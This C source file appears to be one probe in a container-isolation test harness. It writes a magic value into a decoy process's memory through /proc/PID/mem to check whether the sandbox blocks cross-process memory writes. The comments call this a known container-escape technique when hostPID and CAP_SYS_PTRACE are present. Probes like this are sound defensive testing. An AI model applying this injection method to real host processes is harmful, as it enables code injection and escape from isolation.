/* Writing the memory of a host process through /proc/PID/mem: code
 * injection into a process outside the container (the classic
 * /proc/PID/mem technique; with a shared pid namespace and
 * CAP_SYS_PTRACE this is a full escape, see
 * https://book.hacktricks.wiki/en/linux-hardening/privilege-escalation/docker-security/docker-breakout-privilege-escalation/index.html
 * "hostPID"). Writes DECOY_MAGIC into the decoy's decoy_flag; the decoy
 * then exits with DECOY_EXIT_MEMORY, which the runner sees. */
#include "attack.h"

#include <fcntl.h>
#include <unistd.h>

int attack_proc_pid_mem(void) {
    char path[64];
    int fd = open_decoy_file("mem", O_RDWR, path, sizeof path);
    if (fd < 0)
        BLOCKED_ERRNO("open /proc/DECOY/mem");
    long v = DECOY_MAGIC;
    if (pwrite(fd, &v, sizeof v, (off_t)(unsigned long)&decoy_flag) != (long)sizeof v)
        BLOCKED_ERRNO("pwrite into the decoy's memory");
    WORKED("wrote the decoy's memory through %s", path);
}
